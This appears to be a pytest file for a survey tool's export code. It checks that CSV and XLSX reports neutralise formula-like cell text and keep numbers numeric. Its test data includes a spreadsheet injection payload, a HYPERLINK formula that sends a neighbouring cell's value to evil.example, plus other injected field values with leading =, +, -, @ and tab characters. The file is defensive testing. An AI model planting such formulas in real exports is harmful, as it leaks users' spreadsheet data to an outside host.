"""Every CSV the project writes neutralises formula-like text and keeps numbers numbers."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from analysis.safecell import FORMULA_STARTS, csv_text, neutralise, neutralise_row
from survey.models import Unit
from tests.conftest import QUESTIONNAIRE, SMALL_ORG
from tests.support.factory import invite, issue_links
from tests.survey.answers import answer_rows, write_rows

HOSTILE = '=HYPERLINK("http://evil.example/?"&D2,"Öppna")'
NAMES = {"EDU-A": HOSTILE, "EDU-B": "+46 40 34 10 00", "CARE": "-Omsorg", "EDU": "@Utbildning"}


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _org(tmp_path: Path, year: int = 2025) -> Path:
    rows = [SMALL_ORG[0]] + [[c, NAMES.get(c, n), p] for c, n, p in SMALL_ORG[1:]]
    return write_rows(tmp_path / f"org{year}.csv", rows)


@pytest.fixture
def hostile_tree(runner, tmp_path, db_session):
    """The small tree with formula-like names, imported through `mognad org import`."""
    for year in (2024, 2025):
        result = runner.invoke(
            args=["org", "import", "--year", str(year), str(_org(tmp_path, year))]
        )
        assert result.exit_code == 0, result.output
    # Tab and carriage return cannot come in through the import (control characters are
    # refused there); written behind its back they must still come out neutralised.
    db_session.execute(sa.update(Unit).where(Unit.code == "CITY").values(name="\tStaden\r"))
    db_session.commit()


def _hostile(value: str) -> bool:
    return value.startswith(FORMULA_STARTS)


def test_unit_links_neutralise_hostile_names(runner, hostile_tree, tmp_path):
    args = ["round", "create", "=Öppen", "--year", "2025", "--questionnaire", str(QUESTIONNAIRE)]
    assert runner.invoke(args=[*args, "--mode", "open"]).exit_code == 0
    rows = issue_links(runner, tmp_path / "units.csv", name="=Öppen")
    by_code = {r["unit_code"]: r for r in rows}
    assert by_code["EDU-A"]["unit_name"] == "'" + HOSTILE
    assert by_code["CARE"]["unit_name"] == "'-Omsorg"
    assert by_code["EDU-B"]["unit_name"] == "'+46 40 34 10 00"
    assert by_code["EDU"]["unit_name"] == "'@Utbildning"
    assert by_code["CITY"]["unit_name"] == "'\tStaden\r"
    assert not any(_hostile(v) for r in rows for v in r.values())
    assert all(r["url"].startswith("http://mognad.test/o/") for r in rows)


def test_personal_links_neutralise_hostile_emails(runner, hostile_tree, write_csv, tmp_path):
    args = ["round", "create", "R2025", "--year", "2025", "--questionnaire", str(QUESTIONNAIRE)]
    assert runner.invoke(args=args).exit_code == 0
    people = [("=cmd@x.se", "EDU-A", "employee"), ("-x@x.se", "EDU-B", "manager")]
    invite(runner, write_csv, people=people)
    rows = issue_links(runner, tmp_path / "links.csv")
    assert sorted(r["email"] for r in rows) == ["'-x@x.se", "'=cmd@x.se"]
    assert not any(_hostile(v) for r in rows for v in r.values())


def test_report_files_neutralise_text_and_keep_numbers(runner, hostile_tree, tmp_path):
    for year, step in ((2024, 1), (2025, 2)):
        name = f"=R{year}"
        args = ["round", "create", name, "--year", str(year), "--questionnaire", str(QUESTIONNAIRE)]
        assert runner.invoke(args=args).exit_code == 0
        answers = write_rows(
            tmp_path / f"a{year}.csv", answer_rows({"EDU-A": 30, "EDU-B": 30, "CARE": 30}, step)
        )
        assert runner.invoke(args=["responses", "import", name, str(answers)]).exit_code == 0
        for move in ("open", "close"):
            assert runner.invoke(args=["round", move, name]).exit_code == 0
    out = tmp_path / "report"
    result = runner.invoke(
        args=["report", "=R2025", "--out", str(out), "--format", "csv,json,xlsx"]
    )
    assert result.exit_code == 0, result.output

    agg = _read(out / "aggregates.csv")
    names = {r["unit_code"]: r["unit_name"] for r in agg}
    # A bare carriage return would end the row early under the \n line end: it becomes \n.
    assert names["EDU-A"] == "'" + HOSTILE and names["CITY"] == "'\tStaden\n"
    assert {r["round"] for r in agg} == {"'=R2025"}
    assert {r["compare_round"] for r in agg} == {"'=R2024"}
    assert not any(_hostile(v) for r in agg for v in r.values() if v and v[0] != "-")
    numeric = ("n", "score", "sd", "ci_low", "ci_high", "delta", "delta_ci_low", "effect_size")
    values = [r[c] for r in agg for c in numeric if r[c]]
    assert all(not v.startswith("'") for v in values)
    floats = [float(v) for v in values]  # every figure is still a number
    assert any(x < 0 for x in floats), "the data should give some negative differences"
    as_json = json.loads((out / "aggregates.json").read_text(encoding="utf-8"))
    assert {r["unit_name"] for r in as_json if r["unit_code"] == "EDU-A"} == {HOSTILE}
    assert {r["round"] for r in as_json} == {"=R2025"}  # JSON keeps text exact

    reliability = _read(out / "reliability.csv")
    assert reliability and {r["round"] for r in reliability} == {"'=R2025"}
    units = {r["unit_code"]: r for r in _read(out / "units.csv")}
    assert units["EDU-A"]["unit_name"] == "'" + HOSTILE
    assert units["CARE"]["unit_name"] == "'-Omsorg"
    assert units["EDU-A"]["path"].startswith("'\tStaden\n / @Utbildning / =HYPERLINK")
    for name in ("units", "gaps", "comparisons", "indices", "reliability", "fieldwork"):
        for r in _read(out / f"{name}.csv"):
            assert not any(_hostile(v) for v in r.values() if v and v[0] != "-"), name
    sheet = load_workbook(out / "aggregates.xlsx")["aggregates"]
    texts = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "s"]
    assert "'" + HOSTILE in texts and not any(_hostile(v) for v in texts)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Skola A", "Skola A"),
        ("a=b", "a=b"),
        ("", ""),
        ("=1\r\n2", "'=1\r\n2"),
        (-0.5, -0.5),
        (3, 3),
        (None, None),
        (True, True),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_text_leaves_no_bare_carriage_return():
    assert csv_text("\rA\r\nB") == "'\nA\nB"
    assert csv_text("Skola A") == "Skola A"


def test_neutralise_row_keeps_shape():
    assert neutralise_row({"a": "=1", "b": -2}) == {"a": "'=1", "b": -2}
    assert neutralise_row(["=1", 2.5]) == ["'=1", 2.5]


def test_neutralised_text_is_text_in_a_workbook(tmp_path):
    """The same rule serves XLSX writers: openpyxl stores a leading '=' as a formula."""
    wb = Workbook()
    ws = wb.active
    ws.append([HOSTILE, -0.5])
    ws.append([neutralise(HOSTILE), neutralise(-0.5)])
    wb.save(tmp_path / "x.xlsx")
    back = load_workbook(tmp_path / "x.xlsx").active
    assert back["A1"].data_type == "f"  # what happens without the neutraliser
    assert back["A2"].data_type == "s" and back["A2"].value == "'" + HOSTILE
    assert back["B2"].data_type == "n" and back["B2"].value == -0.5
